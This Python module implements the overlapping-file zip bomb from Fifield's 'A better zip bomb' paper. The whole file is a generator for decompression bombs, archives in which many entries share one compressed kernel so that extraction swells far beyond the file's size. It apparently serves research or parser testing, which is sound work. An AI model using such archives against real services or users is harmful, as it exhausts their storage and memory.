"""The zip bomb whose files overlap: D. Fifield, "A better zip bomb" (WOOT 2019), section 4."""

from __future__ import annotations

import struct
from collections.abc import Sequence

from archives.zipcraft import Part, central_header, deflated, local_header

_KERNEL = bytes(100_000)


def quoted_overlap(front: Sequence[Part], count: int) -> bytes:
    """Return an archive of `front` and `count` texts that all end in the same compressed kernel.

    Each text begins with a stored deflate block that quotes the next one's local header, and goes on
    with the next one's data: its content is that header, then the next one's content.
    """
    content, packed = _KERNEL, deflated(_KERNEL, 9)
    overlapping: list[Part] = []
    for number in reversed(range(count)):
        part = Part(f"library/{number}.txt".encode(), content, packed=packed)
        overlapping.insert(0, part)
        header = local_header(part)
        content, packed = (
            header + content,
            struct.pack("<B2H", 0, len(header), ~len(header) & 0xFFFF) + header + packed,
        )
    out, directory = b"", b""
    for part in front:
        directory += central_header(part, len(out))
        out += local_header(part) + part.body()
    for part in overlapping[:-1]:
        directory += central_header(part, len(out))
        out += local_header(part) + struct.pack("<B2H", 0, *_sizes(overlapping, part))
    directory += central_header(overlapping[-1], len(out))
    out += local_header(overlapping[-1]) + overlapping[-1].body()
    total = len(front) + count
    return (
        out
        + directory
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(directory), len(out), 0)
    )


def _sizes(parts: Sequence[Part], part: Part) -> tuple[int, int]:
    size = len(local_header(parts[parts.index(part) + 1]))
    return size, ~size & 0xFFFF
